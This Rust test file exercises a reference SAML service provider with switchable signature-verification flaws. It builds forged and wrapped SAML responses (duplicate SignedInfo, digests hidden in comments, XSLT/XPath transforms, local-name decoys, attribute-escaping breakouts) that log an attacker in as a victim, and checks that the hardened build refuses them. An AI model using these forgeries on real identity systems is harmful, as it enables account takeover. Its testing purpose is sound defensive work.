//! The switches that weaken the verification of signatures: each takes a message that the hardened service provider refuses.

use openssl::hash::MessageDigest;
use openssl::sign::Signer;
use reference_sp::{Config, Flaw, Flaws, ReferenceSp};
use saml::key::SigningKey;
use saml::names::{alg, ns};
use saml::signature::{Secret, Template, hash, sign_by_hand};

use crate::kit::browser::{Outcome, deliver};
use crate::kit::*;
use crate::switches::{exploit, forged_digest, genuine, with_extensions};

/// The digest of no octets.
const OF_NOTHING: &str = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=";

/// The attacker's message with the victim's name in it.
fn changed(sp: &ReferenceSp) -> String {
    genuine(sp).replace(ATTACKER, VICTIM)
}

/// The victim's Assertion, signed by hand: also what no signer of good standing would write.
fn by_hand(sp: &ReferenceSp, change: impl FnOnce(&mut Template)) -> String {
    let plain = response(sp, tenant(), VICTIM).to_xml();
    let certificate = tenant().key.certificate();
    let mut template = Template::azure(&id_after(&plain, "<Assertion"), certificate, false);
    change(&mut template);
    let element = plain.find("<Assertion").unwrap();
    let at = element + plain[element..].find("</Issuer>").unwrap() + "</Issuer>".len();
    let unsigned = saml::document::splice(&plain, at..at, &template.to_xml());
    sign_by_hand(&unsigned, at, Secret::Key(&tenant().key)).unwrap()
}

/// The message signs the victim in under the switch, and the attacker who sends it, or nobody, in the hardened service provider.
async fn usurp(flaw: Flaw, message: impl Fn(&ReferenceSp) -> String) {
    for (flaws, usurped) in [(Flaws::NONE, false), (flaw.into(), true)] {
        let sp = start(Config {
            flaws,
            ..Config::default()
        })
        .await;
        let outcome = deliver(&sp, &message(&sp)).await;
        assert_eq!(outcome == Outcome::In(VICTIM.to_owned()), usurped, "{outcome:?}");
    }
}

/// The message is refused by the hardened service provider and under the switch.
async fn not_even(flaw: Flaw, refused: impl Fn(&ReferenceSp) -> String) {
    for flaws in [Flaws::NONE, flaw.into()] {
        let sp = start(Config {
            flaws,
            ..Config::default()
        })
        .await;
        deliver(&sp, &refused(&sp)).await.is_refused("");
    }
}

#[tokio::test]
async fn v03_takes_an_error_for_a_yes() {
    exploit(Flaw::VerifyErrorIsOk, VICTIM, |sp| {
        let xml = changed(sp);
        xml.replace(signature_of(&xml), &format!("<Signature xmlns=\"{}\"/>", ns::DS))
    })
    .await;
    exploit(Flaw::VerifyErrorIsOk, VICTIM, |sp| {
        let plain = response(sp, tenant(), VICTIM).to_xml();
        sign_assertion(&plain, rogue()).replace(alg::RSA_SHA256, "urn:none")
    })
    .await;
    // Method and key do not go together: all that OpenSSL has to say is that it cannot say.
    exploit(Flaw::VerifyErrorIsOk, VICTIM, |sp| {
        let plain = response(sp, tenant(), VICTIM).to_xml();
        sign_assertion(&plain, rogue()).replace(alg::RSA_SHA256, alg::ECDSA_SHA256)
    })
    .await;
    not_even(Flaw::VerifyErrorIsOk, changed).await;
}

#[tokio::test]
async fn v06_trusts_a_certificate_by_its_name() {
    let like = |key: SigningKey| Idp {
        entity_id: ISSUER,
        key,
    };
    let twin = like(SigningKey::generate_like(tenant().key.certificate()).unwrap());
    exploit(Flaw::CertDnMatch, VICTIM, |sp| {
        sign_assertion(&response(sp, tenant(), VICTIM).to_xml(), &twin)
    })
    .await;
    let stranger = like(SigningKey::generate_azure("Somebody else", jiff::Timestamp::now(), 3).unwrap());
    not_even(Flaw::CertDnMatch, |sp| {
        sign_assertion(&response(sp, tenant(), VICTIM).to_xml(), &stranger)
    })
    .await;
}

#[tokio::test]
async fn v14_takes_other_attributes_for_an_id() {
    for attribute in ["Id", "id", "xml:id", "x:ID"] {
        usurp(Flaw::AnyIdAttribute, |sp| {
            let xml = genuine(sp);
            let id = id_after(&xml, "<Assertion");
            let named = format!("<Assertion xmlns:x=\"urn:x\" {attribute}=\"{id}\"");
            with_extensions(&xml, &evil(&xml, false).replacen("<Assertion", &named, 1))
        })
        .await;
    }
    not_even(Flaw::AnyIdAttribute, |sp| {
        let xml = genuine(sp);
        with_extensions(&xml, &evil(&xml, false)).replace(ATTACKER, VICTIM)
    })
    .await;
}

#[tokio::test]
async fn v17_verifies_one_signed_info_and_believes_another() {
    exploit(Flaw::MultiSignedInfo, VICTIM, |sp| {
        let xml = changed(sp);
        let genuine = cut(&xml, "<SignedInfo>", "</SignedInfo>");
        let forged = genuine.replace(
            cut(genuine, "<DigestValue>", "</DigestValue>"),
            &format!("<DigestValue>{}</DigestValue>", forged_digest(&xml)),
        );
        xml.replace(genuine, &format!("{genuine}{forged}"))
    })
    .await;
    not_even(Flaw::MultiSignedInfo, changed).await;
}

#[tokio::test]
async fn v18_reads_a_digest_out_of_a_comment() {
    exploit(Flaw::DigestFirstChild, VICTIM, |sp| {
        let xml = changed(sp);
        xml.replace(
            "<DigestValue>",
            &format!("<DigestValue><!--{}-->", forged_digest(&xml)),
        )
    })
    .await;
    not_even(Flaw::DigestFirstChild, changed).await;
}

#[tokio::test]
async fn v21_runs_what_a_transform_asks_for() {
    let constant = format!(
        "<Transform Algorithm=\"{}\"><xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\">\
         <xsl:output method=\"text\"/><xsl:template match=\"/\">x</xsl:template></xsl:stylesheet></Transform>",
        alg::XSLT
    );
    let of_x = openssl::base64::encode_block(&hash(alg::SHA256, b"x").unwrap());
    exploit(Flaw::AnyTransform, VICTIM, |sp| {
        by_hand(sp, |template| {
            template.references[0].transforms[1].clone_from(&constant);
            template.references[0].digest_value = Some(of_x.clone());
        })
    })
    .await;
    let without_names = format!(
        "<Transform Algorithm=\"{}\"><XPath xmlns:s=\"{}\">not(ancestor-or-self::s:NameID or ancestor-or-self::s:AttributeValue)</XPath></Transform>",
        alg::XPATH,
        ns::SAML
    );
    exploit(Flaw::AnyTransform, VICTIM, |sp| {
        let plain = response(sp, tenant(), ATTACKER).to_xml();
        let signed = sign_assertion_with(&plain, tenant(), |template| {
            template.references[0].transforms.insert(1, without_names.clone());
        });
        signed.replace(ATTACKER, VICTIM)
    })
    .await;
    not_even(Flaw::AnyTransform, changed).await;
}

#[tokio::test]
async fn v22_digests_nothing_where_there_is_no_canonical_form() {
    let of_nothing = |sp: &ReferenceSp| {
        let xml = changed(sp);
        let mut signer = Signer::new(MessageDigest::sha256(), tenant().key.private()).unwrap();
        let value = openssl::base64::encode_block(&signer.sign_oneshot_to_vec(b"").unwrap());
        xml.replace("<Assertion ", "<Assertion xmlns:z=\"1\" ")
            .replace("<SignedInfo>", "<SignedInfo xmlns:z=\"1\">")
            .replace(
                cut(&xml, "<DigestValue>", "</DigestValue>"),
                &format!("<DigestValue>{OF_NOTHING}</DigestValue>"),
            )
            .replace(
                cut(&xml, "<SignatureValue>", "</SignatureValue>"),
                &format!("<SignatureValue>{value}</SignatureValue>"),
            )
    };
    exploit(Flaw::EmptyCanonical, VICTIM, of_nothing).await;
    exploit(Flaw::EmptyCanonical, VICTIM, |sp| {
        by_hand(sp, |template| {
            template.references[0].uri = Some("#_absent".to_owned());
            template.references[0].digest_value = Some(OF_NOTHING.to_owned());
        })
    })
    .await;
    not_even(Flaw::EmptyCanonical, changed).await;
}

#[tokio::test]
async fn v23_takes_instructions_for_text() {
    let issued = format!("not-an-{VICTIM}");
    exploit(Flaw::InstructionsAsText, VICTIM, |sp| {
        flawless(sp, &issued).replace(&issued, &format!("<?p not-an-?>{VICTIM}"))
    })
    .await;
    not_even(Flaw::InstructionsAsText, changed).await;
}

#[tokio::test]
async fn v24_looks_elements_up_by_their_local_names() {
    let decoy = |sp: &ReferenceSp, name: &str| {
        let xml = genuine(sp);
        let evil = evil(&xml, false)
            .replacen("<Assertion", &format!("<{name}"), 1)
            .replace("</Assertion>", &format!("</{name}>"));
        let genuine = assertion_of(&xml);
        xml.replace(genuine, &format!("{evil}{genuine}"))
    };
    usurp(Flaw::LocalNames, |sp| {
        decoy(sp, "x:Assertion").replacen("<x:Assertion", "<x:Assertion xmlns:x=\"urn:x\"", 1)
    })
    .await;
    usurp(Flaw::LocalNames, |sp| decoy(sp, "assertion")).await;
    usurp(Flaw::LocalNames, |sp| {
        changed(sp).replace(
            &format!("<Signature xmlns=\"{}\"", ns::DS),
            "<Signature xmlns=\"urn:x\"",
        )
    })
    .await;
    usurp(Flaw::LocalNames, |sp| {
        let xml = changed(sp);
        let genuine = signature_of(&xml);
        let decoy = genuine
            .replace(
                cut(genuine, "<DigestValue>", "</DigestValue>"),
                &format!("<DigestValue>{}</DigestValue>", forged_digest(&xml)),
            )
            .replace("<Signature ", "<x:Signature xmlns:x=\"urn:x\" ")
            .replace("</Signature>", "</x:Signature>");
        xml.replace(genuine, &format!("{decoy}{genuine}"))
    })
    .await;
    not_even(Flaw::LocalNames, changed).await;
}

#[tokio::test]
async fn v26_reads_what_it_wrote_and_not_what_it_verified() {
    usurp(Flaw::RoundTrip, |sp| {
        let xml = genuine(sp);
        let evil = evil(&xml, false)
            .replacen(
                "<Assertion",
                &format!("<x::Assertion xmlns:x=\"{}\"", ns::SAML),
                1,
            )
            .replace("</Assertion>", "</x::Assertion>");
        let genuine = assertion_of(&xml);
        xml.replace(genuine, &format!("{evil}{genuine}"))
    })
    .await;
    usurp(Flaw::RoundTrip, |sp| {
        let xml = genuine(sp);
        let breaks_out = format!(
            "\"/></samlp:Extensions>{}<samlp:Extensions><y:n xmlns:y=\"urn:y\" z=\"",
            evil(&xml, false)
        );
        let escaped = saml::document::escape_attribute(&breaks_out);
        with_extensions(&xml, &format!("<y:n xmlns:y=\"urn:y\" z=\"{escaped}\"/>"))
    })
    .await;
    not_even(Flaw::RoundTrip, changed).await;
}
